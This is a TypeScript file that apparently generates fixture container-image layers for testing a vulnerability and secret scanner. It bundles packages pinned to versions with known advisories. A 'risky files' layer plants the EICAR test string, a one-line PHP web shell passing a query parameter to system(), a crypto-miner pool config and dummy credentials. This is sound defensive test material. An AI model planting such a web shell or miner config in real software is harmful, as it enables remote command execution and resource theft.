import { zipSync } from 'fflate'
import type { TarEntry } from '../tar-writer'

/**
 * Application layers of demo/shop-app, with packages inside the ranges of the bundled
 * advisories: lodash 4.17.20 (GHSA-29mw-wpgm-hmr9), qs 6.7.0 via express 4.17.1
 * (GHSA-hrpp-h998-j3pp), express 4.17.1 (GHSA-rv95-896h-c2vc), axios 0.21.0
 * (GHSA-4w2v-q235-vp99), jsonwebtoken 8.5.1 (GHSA-8cf7-32gw-wr33, GHSA-hjrf-2m68-5959),
 * minimist 1.2.5 (GHSA-xvch-5gv4-984h) — deleted by a later layer, so not installed;
 * Jinja2 2.11.2 (PYSEC-2021-66, GHSA-h5c8-rqwp-cp95), requests 2.19.1 (PYSEC-2018-28),
 * PyYAML 5.3 (PYSEC-2020-96), Django 3.2.4 (PYSEC-2021-109, -2022-213, -2023-61),
 * urllib3 1.26.16 (PYSEC-2023-192, -2023-212); log4j-core 2.14.1 (GHSA-jfh8-c2jp-5v3q
 * Log4Shell, GHSA-7rjr-3q55-vv33, GHSA-p6xc-xr62-6r2g), jackson-databind 2.13.2
 * (GHSA-57j2-w4cx-62h2, GHSA-jjjh-jjxp-wpff), spring-beans 5.3.17 nested in a Spring
 * Boot jar (GHSA-36p3-wjmg-h94x Spring4Shell).
 */
const ZIP_MTIME = new Date('2024-01-01T00:00:00Z')

function npmPackage(dir: string, name: string, version: string, license: string, description: string, deps: Record<string, string> = {}): TarEntry {
  const pkg = { name, version, description, license, main: 'index.js', dependencies: deps }
  return { path: `${dir}/package.json`, content: JSON.stringify(pkg, null, 2) + '\n' }
}

export function nodeLayer(): TarEntry[] {
  const nm = 'app/node_modules'
  return [
    { path: 'app', type: 'dir' },
    { path: 'app/package.json', content: JSON.stringify({ name: 'shop-app', version: '1.0.0', private: true, dependencies: { express: '4.17.1', lodash: '4.17.20', axios: '0.21.0', jsonwebtoken: '8.5.1', minimist: '1.2.5' } }, null, 2) },
    { path: 'app/server.js', content: "const express = require('express')\nconst app = express()\napp.listen(3000)\n" },
    npmPackage(`${nm}/express`, 'express', '4.17.1', 'MIT', 'Fast, unopinionated, minimalist web framework', { qs: '6.7.0', 'body-parser': '1.19.0' }),
    npmPackage(`${nm}/qs`, 'qs', '6.7.0', 'BSD-3-Clause', 'A querystring parser that supports nesting and arrays, with a depth limit'),
    npmPackage(`${nm}/body-parser`, 'body-parser', '1.19.0', 'MIT', 'Node.js body parsing middleware', { qs: '6.7.0' }),
    npmPackage(`${nm}/lodash`, 'lodash', '4.17.20', 'MIT', 'Lodash modular utilities.'),
    npmPackage(`${nm}/axios`, 'axios', '0.21.0', 'MIT', 'Promise based HTTP client for the browser and node.js', { 'follow-redirects': '^1.10.0' }),
    npmPackage(`${nm}/follow-redirects`, 'follow-redirects', '1.13.0', 'MIT', 'HTTP and HTTPS modules that follow redirects.'),
    npmPackage(`${nm}/jsonwebtoken`, 'jsonwebtoken', '8.5.1', 'MIT', 'JSON Web Token implementation (symmetric and asymmetric)', { lodash: '^4.17.15' }),
    // A nested copy at another version, as npm installs conflicting ranges.
    npmPackage(`${nm}/jsonwebtoken/node_modules/semver`, 'semver', '5.7.1', 'ISC', 'The semantic version parser used by npm.'),
    npmPackage(`${nm}/minimist`, 'minimist', '1.2.5', 'MIT', 'parse argument options'),
    { path: `${nm}/minimist/index.js`, content: 'module.exports = function (args, opts) {}\n' },
  ]
}

function distInfo(site: string, name: string, version: string, license: string, summary: string, requires: string[] = []): TarEntry[] {
  const dir = `${site}/${name.replace(/-/g, '_')}-${version}.dist-info`
  const meta = ['Metadata-Version: 2.1', `Name: ${name}`, `Version: ${version}`, `Summary: ${summary}`, `License: ${license}`, ...requires.map((r) => `Requires-Dist: ${r}`), '', ''].join('\n')
  return [
    { path: `${dir}/METADATA`, content: meta },
    { path: `${dir}/INSTALLER`, content: 'pip\n' },
    { path: `${dir}/RECORD`, content: `${name.toLowerCase()}/__init__.py,,\n` },
  ]
}

export function pythonLayer(): TarEntry[] {
  const site = 'usr/lib/python3.11/site-packages'
  return [
    ...distInfo(site, 'Jinja2', '2.11.2', 'BSD-3-Clause', 'A very fast and expressive template engine.', ['MarkupSafe (>=0.23)']),
    ...distInfo(site, 'MarkupSafe', '1.1.1', 'BSD-3-Clause', 'Safely add untrusted strings to HTML/XML markup.'),
    ...distInfo(site, 'requests', '2.19.1', 'Apache 2.0', 'Python HTTP for Humans.', ['urllib3 (<1.24,>=1.21.1)']),
    ...distInfo(site, 'PyYAML', '5.3', 'MIT', 'YAML parser and emitter for Python'),
    ...distInfo(site, 'Django', '3.2.4', 'BSD-3-Clause', 'A high-level Python Web framework that encourages rapid development and clean, pragmatic design.'),
    ...distInfo(site, 'urllib3', '1.26.16', 'MIT', 'HTTP library with thread-safe connection pooling, file post, and more.'),
    // An older setuptools-style install: egg-info with PKG-INFO.
    { path: `${site}/six-1.16.0-py3.11.egg-info/PKG-INFO`, content: 'Metadata-Version: 1.2\nName: six\nVersion: 1.16.0\nSummary: Python 2 and 3 compatibility utilities\nLicense: MIT\n' },
  ]
}

function jar(files: Record<string, string | Uint8Array>): Buffer {
  const entries: Record<string, [Uint8Array, { mtime: Date }]> = {}
  for (const [name, content] of Object.entries(files)) {
    entries[name] = [typeof content === 'string' ? Buffer.from(content) : content, { mtime: ZIP_MTIME }]
  }
  return Buffer.from(zipSync(entries, { level: 6 }))
}

function mavenJar(group: string, artifact: string, version: string, title: string): Buffer {
  return jar({
    'META-INF/MANIFEST.MF': `Manifest-Version: 1.0\nImplementation-Title: ${title}\nImplementation-Version: ${version}\nImplementation-Vendor-Id: ${group}\n`,
    [`META-INF/maven/${group}/${artifact}/pom.properties`]: `groupId=${group}\nartifactId=${artifact}\nversion=${version}\n`,
    [`META-INF/maven/${group}/${artifact}/pom.xml`]: `<project><groupId>${group}</groupId><artifactId>${artifact}</artifactId><version>${version}</version></project>\n`,
  })
}

export function javaLayer(): TarEntry[] {
  const fatJar = jar({
    'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: org.springframework.boot.loader.JarLauncher\nStart-Class: com.example.shop.ShopApplication\nImplementation-Title: shop\nImplementation-Version: 1.0.0\n',
    'BOOT-INF/classes/application.properties': 'server.port=8080\n',
    'BOOT-INF/lib/spring-beans-5.3.17.jar': mavenJar('org.springframework', 'spring-beans', '5.3.17', 'spring-beans'),
    // Only a manifest, no pom.properties: identified from MANIFEST.MF alone.
    'BOOT-INF/lib/commons-text-1.9.jar': jar({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nImplementation-Title: Apache Commons Text\nImplementation-Version: 1.9\nImplementation-Vendor-Id: org.apache.commons\nBundle-SymbolicName: org.apache.commons.commons-text\n' }),
  })
  return [
    { path: 'app/lib/log4j-core-2.14.1.jar', content: mavenJar('org.apache.logging.log4j', 'log4j-core', '2.14.1', 'Apache Log4j Core') },
    { path: 'app/lib/jackson-databind-2.13.2.jar', content: mavenJar('com.fasterxml.jackson.core', 'jackson-databind', '2.13.2', 'jackson-databind') },
    { path: 'app/shop.jar', content: fatJar },
  ]
}

/** The 68-byte EICAR anti-virus test file: harmless, detected by every scanner by design. */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

export function riskyFilesLayer(): TarEntry[] {
  return [
    { path: 'app/uploads/eicar.com', content: EICAR },
    { path: 'app/public/shell.php', content: "<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>\n" },
    { path: 'app/tools/config.json', content: JSON.stringify({ autosave: true, cpu: true, pools: [{ url: 'stratum+tcp://pool.minexmr.example:4444', user: '4ExampleMoneroWalletAddressForDemoOnly', pass: 'x' }] }, null, 2) },
    { path: 'app/.env', content: 'DATABASE_URL=postgres://shop:Sup3rS3cret@db:5432/shop\nJWT_SECRET=change-me-0123456789abcdef\n' },
  ]
}

/** A later layer deletes minimist (whiteout) and empties /app/tmp (opaque directory). */
export function cleanupLayer(): TarEntry[] {
  return [
    { path: 'app/node_modules/.wh.minimist', content: '' },
    { path: 'app/tmp', type: 'dir' },
    { path: 'app/tmp/.wh..wh..opq', content: '' },
  ]
}

export function buildCacheLayer(): TarEntry[] {
  return [
    { path: 'app/tmp/build.log', content: 'npm ci finished\n' },
    { path: 'app/tmp/cache.bin', content: 'cache\n' },
  ]
}
